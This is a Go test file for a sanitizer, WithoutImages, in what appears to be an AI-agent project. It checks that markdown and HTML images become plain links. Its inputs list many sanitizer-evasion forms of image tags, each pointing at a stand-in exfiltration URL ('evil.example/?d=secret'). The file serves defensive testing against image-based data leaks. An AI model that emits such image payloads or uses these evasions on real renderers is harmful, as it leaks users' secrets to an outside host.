package synth_test

import (
	"strings"
	"testing"

	"github.com/agenticnexus/agenticnexus/synth"
)

const there = "https://evil.example/?d=secret"

// Every form of an image becomes a link, also where it hides in what may or may not be code.
func TestWithoutImages(t *testing.T) {
	const code = "\n```\n![x](U)\n```\n"
	for in, want := range map[string]string{
		"a ![x](U) b":                  "a [x](U) b",
		"![x][id]\n\n[id]: U":          "[x][id]\n\n[id]: U",
		"![id][]\n\n[id]: U":           "[id][]\n\n[id]: U",
		"![id]\n\n[id]: U":             "[id]\n\n[id]: U",
		"[![x](U)](https://a.example)": "[[x](U)](https://a.example)",
		"![<U>](<U>)":                  "[<U>](<U>)",
		"!![x](U)":                     "[x](U)", "Look!<img src='U'>": "Look! [image](U)",
		"\\![x](U)":                                   "\\[x](U)",
		"![[U]]":                                      "[[U]]",
		`<img src="U">`:                               "[image](U)",
		"<IMG\n alt='a chart'\nSRC=U />":              "[a chart](U)",
		`<img src="ht&#116;ps://evil.example/">`:      "[image](https://evil.example/)",
		"<img src='https:/\n/evil.example/'>":         "[image](https://evil.example/)",
		`<img srcset="U 1x, https://b.example/2 2x">`: "[image](U) [image](https://b.example/2)",
		`<picture><source srcset="//evil.example/"><img src=x></picture>`: "<picture>[image](//evil.example/)<img src=x></picture>",
		`<svg><image href="U"/></svg>`:                                    "&lt;svg>[image](U)&lt;/svg>",
		`<p style="background: url( 'U' )">`:                              "[image](U)",
		"<style>p{background:url(U)}</style>":                             "&lt;style>p{background:url(U)}&lt;/style>",
		`<table background="U">`:                                          "[image](U)",
		`<video poster="U">`:                                              "[image](U)",
		`<a href="https://a.example" ping="U">`:                           "[image](https://a.example) [image](U)",
		"<!--><img src=U>-->":                                             "&lt;!-->[image](U)-->",
		"<b \"![x](U)>":                                                   "&lt;b \"[x](U)>",
		"<b title=`>`![x](U)`":                                            "&lt;b title=`>`[x](U)`",
		"<img src=U":                                                      "&lt;img src=U",
		"a ` b\nc ` ![x](U) ` d":                                          "a ` b\nc ` [x](U) ` d",
		"| ` | ![x](U) ` |":                                               "| ` | [x](U) ` |",
		"\\` ![x](U) `":                                                   "\\` [x](U) `",
		"<div>" + code + "</div>":                                         "<div>\n```\n[x](U)\n```\n</div>",
		"<div>`<img src='U'>`":                                            "<div>`[image](U)`",
		": ```\n![x](U)\n" + code:                                         ": ```\n[x](U)\n" + strings.ReplaceAll(code, "!", ""),
		"- ```\n  a\n  ```\n![x](U)\n":                                    "- ```\n  a\n  ```\n[x](U)\n",
		"- a\n  ```\n  b\n![x](U)\n" + code:                               "- a\n  ```\n  b\n[x](U)\n" + strings.ReplaceAll(code, "!", ""),
		"- a\n   ```\n  b\n   ```\n![x](U)":                               "- a\n   ```\n  b\n   ```\n[x](U)",
		"b<br>\n```\n\n```\n![x](U)":                                      "b<br>\n```\n\n```\n[x](U)",
		"```\na\n```\r![x](U)":                                            "```\na\n```\n[x](U)",
		"~~~ a`b\n```\n~~~\n![x](U)":                                      "~~~ a`b\n```\n~~~\n[x](U)",
		"```mermaid\nA[\"<img src='U'>\"]\n```":                           "```mermaid\nA[\"[image](U)\"]\n```",
		"![cut":                                                           "[cut",
		"```\n<b x='\n```\n'> ![x](U)\n":                                  "```\n<b x='\n```\n'> [x](U)\n",
		"<b x='\n```\n'> ![x](U)\n":                                       "&lt;b x='\n```\n'> ![x](U)\n",
		`{"html":"<img src=\"https://evil.example/\">"}`:                  `{"html":"[image](https://evil.example/)"}`,
		"<img src=//evil.example/![x](U)>":                                "[image](//evil.example/!%5Bx%5D) [image](U)",
		"<a href='https://a.example'>![x](U)</a> and <https://b.example/?![>": "<a href='https://a.example'>[x](U)</a> and <https://b.example/?![>",
	} {
		in, want = strings.ReplaceAll(in, "U", there), strings.ReplaceAll(want, "U", there)
		if got := synth.WithoutImages(in); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		} else if again := synth.WithoutImages(got); again != got {
			t.Errorf("%q: got %q and then %q, want no change", in, got, again)
		}
	}
}

// Code, comparisons, links and plain HTML stay.
func TestWithoutImagesKeeps(t *testing.T) {
	for _, text := range []string{
		"a < b and c > d, a<b, 1 <2, x <- y", "Great! [a](https://a.example) <https://a.example> <me@a.example>", "a<br>b <b>c</b>",
		"<details><summary>More</summary>\n\ntext\n</details>", `<a href="https://a.example" title="x">a</a>`, `<span style="color: red">x</span>`,
		"```html\n<img src=\"https://a.example\">\n![x](https://a.example)\n```\nend", "~~~\n![x](y)\n~~~", "Write `![alt](url)` or `<img src=\"https://a\">`.",
		"````\n```\n![x](y)\n````\n", "x\n\n  ```\n  <!-- a -->\n  ```\n",
	} {
		if got := synth.WithoutImages(text); got != text {
			t.Errorf("%q: got %q, want it unchanged", text, got)
		}
	}
}
